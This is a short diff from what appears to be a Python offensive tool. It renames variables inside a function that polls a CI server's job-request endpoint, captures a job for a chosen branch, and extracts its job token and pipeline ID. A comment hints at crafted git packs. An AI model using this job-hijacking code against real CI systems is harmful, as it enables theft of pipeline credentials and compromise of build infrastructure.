@@ -94,10 +94,10 @@ async def running_job(target: AttackTarget, http: aiohttp.ClientSession, file: s
         token = (await answer.json())["token"]
     while True:
         async with http.post(f"{api}/jobs/request", json={"token": token}) as answer:
-            given = await answer.json() if answer.status == 201 else None
-        if given and given["git_info"]["ref"] == branch:
-            variables = {one["key"]: one["value"] for one in given["variables"]}
-            return Job(given["id"], given["token"], int(variables["CI_PIPELINE_ID"]), api)
+            taken = await answer.json() if answer.status == 201 else None
+        if taken and taken["git_info"]["ref"] == branch:
+            variables = {variable["key"]: variable["value"] for variable in taken["variables"]}
+            return Job(taken["id"], taken["token"], int(variables["CI_PIPELINE_ID"]), api)
 
 
 # --- packs as no git makes them (gitformat-pack(5)) ------------------------------------------------------------------
